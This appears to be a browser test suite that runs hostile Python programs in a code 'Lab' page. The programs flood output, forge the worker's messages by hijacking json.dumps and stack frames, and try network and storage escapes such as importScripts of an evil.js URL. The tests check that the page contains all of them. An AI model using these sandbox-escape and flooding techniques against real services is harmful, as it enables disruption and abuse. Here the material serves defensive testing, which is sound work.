"""Hostile Lab programs against the real page (issue 37, item 7), in Chromium.

The attacks found by trying the Lab as an attacker would: floods of progress, huge output and
answers, format-string bombs, results of the wrong shape, a forged second ``ready`` or listing, an
illegal solution reported as done, and the doors out of the worker. A program can subvert the Lab's
worker (it reaches the worker's Python: its ``json``, its ``_report``, its output's limit), so
several of them forge the very message the worker sends. Each is run from the Lab's editor, as
a reader would run code from a link, and each must leave the page responsive (its longest
main-thread task under 200 ms, by a PerformanceObserver installed before the run), say what
happened in words (no traceback, no JsProxy), ask no other origin (conftest.Watch), touch no
storage, raise no page error, and let a built-in method run correctly afterwards.

One page per group of programs (a cold page costs seconds); ``HOSTILE_RECORD=<file>`` writes
each program's longest task to a JSON file (the issue's before/after table).
"""

import json
import os

import pytest

from conftest import watched_page
from lab_pages import GAME, METHOD, fewest_moves, open_lab, row, set_code, wait_lab_ready
from puzzles import lab_link

LONGEST_MS = 200      # a main-thread task at the most, during a hostile run
RUN_TIMEOUT = 60000   # a hostile run ends (in words) well within this

# What the programs share: the run's id (found in the worker's own frames, as an attacker
# would) and a way to forge the worker's reply (its json.dumps replaced).
KIT = '''
import json, sys, time
import __main__

def run_id():
    frame = sys._getframe()
    while frame is not None:
        if "run_id" in frame.f_locals:
            return frame.f_locals["run_id"]
        frame = frame.f_back
    return 0

def forge(reply):
    """The worker's next replies are ``reply`` (its kind and id kept as the page expects)."""
    text = reply if isinstance(reply, str) else None
    real = json.dumps
    def dumps(value, *args, **kwargs):
        if isinstance(value, dict) and "kind" in value:
            return text if text is not None else real(reply)
        return real(value, *args, **kwargs)
    json.dumps = dumps
'''


def program(body):
    return KIT + "\n\ndef solve(position, progress):\n" + "\n".join("    " + line for line in body.strip().split("\n"))


DONE = '{"kind": "done", "id": %d, "result": %s}'

# name -> (group, program, words the Lab's message must hold)
CANNOT = "The program sent something the Lab can not show."
PROGRAMS = {
    "progress flood": ("floods", program('''
report = __main__._report
rid = run_id()
for i in range(300000):
    report('{"id": %d, "positions": %d, "depth": 3, "seconds": 1}' % (rid, i))
for i in range(300000):
    progress(positions=i, depth=2)
return 7'''), "count: 7"),
    "huge print": ("floods", program('''
print("x" * 3000000)
for i in range(200000):
    print(i)
return 8'''), "count: 8"),
    "huge print past the worker's cut": ("floods", program('''
__main__.OUTPUT_MOST = 10 ** 9
print("y" * 3000000)
return 9'''), "count: 9"),
    "huge return": ("floods", program('''
forge(DONE % (run_id(), json.dumps({"answer": "none", "positions": 1, "per_depth": [], "seconds": 0,
                                    "junk": "z" * 5000000})))
return None'''), "too large to send"),
    "huge format-string error": ("floods", program('''
from puzzles import lab, lab_kit
raise lab_kit.Relayed(lab.LabError({"text": "{a:>999999999}" * 50000, "values": {"a": "q" * 100000}}))'''),
                                  "{a:>999999999}"),
    "result without positions": ("shapes", program('''
forge(DONE % (run_id(), '{"answer": "none", "moves": null, "solution": null, "count": null, "seconds": 0.1}'))
return None'''), CANNOT),
    "count 10**400": ("shapes", program('''
return 10 ** 400'''), "can not be shown: count"),
    "per-depth list of 400,000": ("shapes", program('''
progress(positions=5, depth=400000)
return 11'''), "the first 200 depths are shown"),
    "Infinity in progress": ("shapes", program('''
__main__._report('{"id": %d, "positions": 1e400, "depth": 1e400, "seconds": 1e400}' % run_id())
time.sleep(0.6)
forge('{"kind": "progress", "id": %d, "positions": 1e400, "depth": 1, "seconds": 1}' % run_id())
return 12'''), CANNOT),
    "bad types in done": ("shapes", program('''
forge(DONE % (run_id(), '{"answer": "solution", "moves": "many", "solution": "abc", "count": [], '
                        '"positions": "x", "per_depth": {"a": 1}, "seconds": "y"}'))
return None'''), CANNOT),
    "forged second ready": ("shapes", program('''
forge('{"kind": "ready", "methods": [{"method": 5, "family": null, "title": {}}], "programs": 7, '
      '"questions": "all"}')
return None'''), CANNOT),
    # issue 38: the build's listing reaches the page by a path of its own (static/lab.js's
    # fetch of py/lab.json); a "listing" said by the worker is dropped, however well formed.
    "forged listing": ("shapes", program('''
forge('{"kind": "listing", "methods": [{"family": "peg", "method": "forged", "title": "Forged", '
      '"source": "ours"}], "programs": {"forged": "print(1)"}, "questions": []}')
return None'''), CANNOT),
    "illegal solution reported as done": ("shapes", program('''
forge(DONE % (run_id(), '{"answer": "solution", "moves": 1, "solution": [[99, 98]], "count": null, '
                        '"positions": 1, "per_depth": [1], "seconds": 0.1}'))
return None'''), "is illegal"),
    "doors out": ("doors", program('''
import js
shut = 0
def door(name, attempt):
    global shut
    try:
        attempt()
    except Exception:
        return 1
    raise RuntimeError("OPEN DOOR: " + name)
tries = [
    ("fetch", lambda: js.fetch("https://example.com/")),
    ("XMLHttpRequest", lambda: js.XMLHttpRequest.new().open("GET", "https://example.com/")),
    ("importScripts", lambda: js.importScripts("https://example.com/evil.js")),
    ("indexedDB", lambda: js.indexedDB.open("evil")),
    ("caches", lambda: js.caches.open("evil")),
    ("localStorage", lambda: js.localStorage.setItem("evil", "1")),
]
return sum(door(name, attempt) for name, attempt in tries)'''), "count: 6"),
}

LONGTASKS = """() => {
    window.__longest = 0;
    if (window.__longtasks) window.__longtasks.disconnect();
    window.__longtasks = new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) window.__longest = Math.max(window.__longest, entry.duration);
    });
    window.__longtasks.observe({ type: "longtask" });
}"""

STORAGE = """async () => ({
    local: Object.keys(localStorage).filter((key) => !key.includes("lab-edit/")).sort()
        .map((key) => [key, localStorage.getItem(key)]),
    databases: (await indexedDB.databases()).map((db) => db.name).sort(),
    caches: (await caches.keys()).sort(),
})"""


def record(name, value):
    path = os.environ.get("HOSTILE_RECORD")
    if not path:
        return
    table = json.loads(open(path).read()) if os.path.exists(path) else {}
    table[name] = value
    with open(path, "w") as out:
        json.dump(table, out, indent=1)


@pytest.fixture(scope="module")
def pages(browser, base_url_of_site, origin):
    """One watched page per group of programs, opened at its first use."""
    made = {}

    def page_for(group):
        if group not in made:
            made[group] = watched_page(browser, base_url_of_site, origin)
        return made[group][1]

    yield page_for
    for context, page in made.values():
        page.watch.collect()
        context.close()


def run_hostile(page, code):
    """Run ``code`` from the editor: the longest main-thread task meanwhile (ms), or None when
    the page did not end the run in time (frozen), and the storage before the run."""
    open_lab(page)
    set_code(page, code)
    page.wait_for_timeout(400)  # the editor's change is heard (kept as an edit)
    storage = page.evaluate(STORAGE)
    page.evaluate(LONGTASKS)
    page.click("#lab-run")
    try:
        page.wait_for_selector("#lab-cancel[disabled]", state="attached", timeout=RUN_TIMEOUT)
        # a moment more: a late message, the fresh worker's start, a frozen paint
        page.wait_for_function("true", timeout=RUN_TIMEOUT)
        page.wait_for_timeout(500)
        page.wait_for_function("true", timeout=RUN_TIMEOUT)
    except Exception:
        return None, storage
    return page.evaluate("window.__longest"), storage


@pytest.mark.parametrize("name", list(PROGRAMS))
def test_a_hostile_program_leaves_the_page_responsive_and_says_so_in_words(pages, name):
    group, code, said = PROGRAMS[name]
    code = code.replace("DONE %", repr(DONE) + " %")
    page = pages(group)
    longest, storage = run_hostile(page, code)
    record(name, "frozen (no answer in %d s)" % (RUN_TIMEOUT // 1000) if longest is None else round(longest))
    assert longest is not None, "the run did not end within %d s" % (RUN_TIMEOUT // 1000)
    assert longest < LONGEST_MS, "a main-thread task of %d ms" % longest
    text = page.text_content("#lab-message") + " " + page.text_content("#lab-results")
    assert said in text, text[:2000]
    for junk in ("Traceback", "JsProxy", "Error:", "OPEN DOOR"):
        assert junk not in text, text[:2000]
    assert page.evaluate(STORAGE) == storage
    page.watch.check()  # no page error, console error, CSP violation or other origin
    # The Lab still runs a built-in method, and answers right.
    open_lab(page, GAME, METHOD)
    page.click("#lab-reset")  # the method's own program back in the editor
    page.wait_for_function("labEditor.text().includes('def solve') && !labEditor.text().includes('def forge')")
    page.evaluate(LONGTASKS)
    page.click("#lab-run")
    page.wait_for_selector("#lab-cancel[disabled]", state="attached", timeout=90000)
    assert row(page, METHOD)["answer"] == "%d moves" % fewest_moves(GAME)
    builtin = page.evaluate("window.__longest")
    # Recorded, not asserted: the built-in run's longest task is the page's ordinary work when
    # a solution arrives (the board drawn), not the hostile program's doing.
    record(name + ": the built-in method after it", round(builtin))
    page.watch.check()


@pytest.mark.parametrize("fragment", ["#lab/", "#lab/!!!!!!"])
def test_a_lab_link_that_names_nothing_says_so(pages, fragment):
    page = pages("doors")
    page.evaluate("f => { location.hash = f }", fragment)
    page.wait_for_selector("#lab:not([hidden])", timeout=30000)
    wait_lab_ready(page)
    page.wait_for_function("document.getElementById('lab-message').textContent.includes('names no puzzle')",
                           timeout=30000)
    page.evaluate("() => { location.hash = '' }")
    page.watch.check()


def test_a_forged_ready_leaves_later_links_working(pages):
    page = pages("shapes")
    open_lab(page)
    link = lab_link.join("peg/triangle15?empty=4", METHOD)
    page.evaluate("f => { location.hash = f }", link)
    page.wait_for_function("document.body.dataset.shown === 'peg/triangle15?empty=4'", timeout=30000)
    wait_lab_ready(page)
    page.watch.check()
